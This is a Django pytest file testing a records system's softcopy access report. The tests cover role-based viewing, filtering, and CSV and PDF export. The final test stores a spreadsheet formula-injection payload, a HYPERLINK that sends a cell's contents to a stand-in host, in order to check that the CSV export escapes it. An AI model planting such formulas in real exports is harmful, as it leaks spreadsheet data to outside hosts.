"""The access report: who saw which softcopy, when and why; for the PPID and the Atasan PPID."""

import csv
import datetime
import io

import pypdf
import pytest
from django.urls import reverse
from django.utils import timezone
from django.utils.formats import date_format

from arsip.models import AccessLog
from dikecualikan.models import Document

REPORT = reverse("arsip:access-report")


@pytest.fixture
def logs(make_record, desk, pembina):
    first, second = make_record("archived"), make_record("archived")
    long_ago = timezone.now() - datetime.timedelta(days=40)
    for record, user, reason, at in [
        (first, desk, "Arsip ulang", long_ago),
        (second, pembina, "Rapat pleno", timezone.now()),
    ]:
        AccessLog.objects.create(
            version=record.softcopies.get().versions.get(),
            user=user,
            reason=reason,
            sha256="a" * 64,
            ip="10.0.0.1",
            at=at,
        )
    return first, second


@pytest.mark.parametrize("username", ["ppid", "atasan"])
def test_the_ppid_and_the_atasan_see_who_accessed_what_and_why(client, cast, logs, username):
    client.force_login(cast[username])
    page = client.get(REPORT).content.decode()
    assert "Arsip ulang" in page and "Rapat pleno" in page


@pytest.mark.parametrize("username", ["desk", "pembina", "pertimbangan", "admin"])
def test_others_cannot_read_the_access_report(client, cast, logs, username):
    client.force_login(cast[username])
    assert client.get(REPORT).status_code == 403


def test_the_report_filters_by_record_and_by_date(client, ppid, logs):
    first, second = logs
    client.force_login(ppid)
    page = client.get(REPORT, {"record": second.pk}).content.decode()
    assert "Rapat pleno" in page and "Arsip ulang" not in page
    since = (timezone.localdate() - datetime.timedelta(days=7)).isoformat()
    page = client.get(REPORT, {"date_from": since}).content.decode()
    assert "Rapat pleno" in page and "Arsip ulang" not in page


def test_the_report_downloads_as_csv(client, ppid, logs):
    client.force_login(ppid)
    response = client.get(REPORT, {"record": logs[1].pk, "format": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0] == ["waktu", "pengguna", "entri", "berkas", "versi", "sha256", "alasan", "ip"]
    assert [r[1] for r in rows[1:]] == ["pembina"] and rows[1][6] == "Rapat pleno"
    assert {"private", "no-store"} <= set(response["Cache-Control"].split(", "))


def test_a_reversed_date_range_is_explained(client, ppid, logs):
    client.force_login(ppid)
    response = client.get(REPORT, {"date_from": "2026-02-01", "date_to": "2026-01-01"})
    assert response.context["form"].non_field_errors()


def test_the_report_downloads_as_a_pdf_with_the_full_hash_and_local_time(
    client, ppid, logs, worker
):
    first, second = logs
    log = AccessLog.objects.get(reason="Rapat pleno")
    client.force_login(ppid)
    # Asked for on the page, prepared by the worker, downloaded from the person's documents.
    client.post(f"{REPORT}?record={second.pk}&format=pdf")
    worker()
    document = Document.objects.get()
    assert document.title == f"Laporan akses softcopy entri #{second.pk}"
    assert document.status == "ready", document.error
    response = client.get(reverse("dikecualikan:document-file", args=[document.pk]))
    assert response["Content-Type"] == "application/pdf"
    assert "no-store" in response["Cache-Control"]
    reader = pypdf.PdfReader(io.BytesIO(b"".join(response.streaming_content)))
    text = "".join("".join(page.extract_text() for page in reader.pages).split())
    assert "Rapatpleno" in text and "Arsipulang" not in text
    assert "a" * 64 in text and f"Entrinomor{second.pk}" in text
    local = timezone.localtime(log.at)
    assert f"{local:%H.%M}" in text and date_format(local, "jFY").replace(" ", "") in text
    assert f"Halaman1dari{len(reader.pages)}" in text


def test_a_long_access_report_is_prepared_whole_with_its_count(
    client, ppid, logs, settings, worker
):
    settings.PPID_PDF_CHUNK_ROWS = 1  # each row its own chunk, joined into one report
    client.force_login(ppid)
    client.post(f"{REPORT}?format=pdf")
    worker()
    document = Document.objects.get()
    response = client.get(reverse("dikecualikan:document-file", args=[document.pk]))
    reader = pypdf.PdfReader(io.BytesIO(b"".join(response.streaming_content)))
    text = "".join("".join(page.extract_text() for page in reader.pages).split())
    assert "Rapatpleno" in text and "Arsipulang" in text and "Jumlahakses:2." in text
    assert f"Halaman{len(reader.pages)}dari{len(reader.pages)}" in text


def test_others_cannot_download_the_access_report_pdf(client, desk, logs):
    client.force_login(desk)
    assert client.post(f"{REPORT}?format=pdf").status_code == 403
    assert not Document.objects.exists()


def test_a_reason_that_would_start_a_formula_is_neutralised_in_the_csv(client, ppid, logs):
    formula = '=HYPERLINK("http://contoh.example/?d="&A1,"Buka")'
    AccessLog.objects.create(
        version=logs[1].softcopies.get().versions.get(),
        user=ppid,
        reason=formula,
        sha256="b" * 64,
        ip="10.0.0.2",
    )
    client.force_login(ppid)
    response = client.get(REPORT, {"record": logs[1].pk, "format": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert sorted(r[6] for r in rows[1:]) == ["'" + formula, "Rapat pleno"]
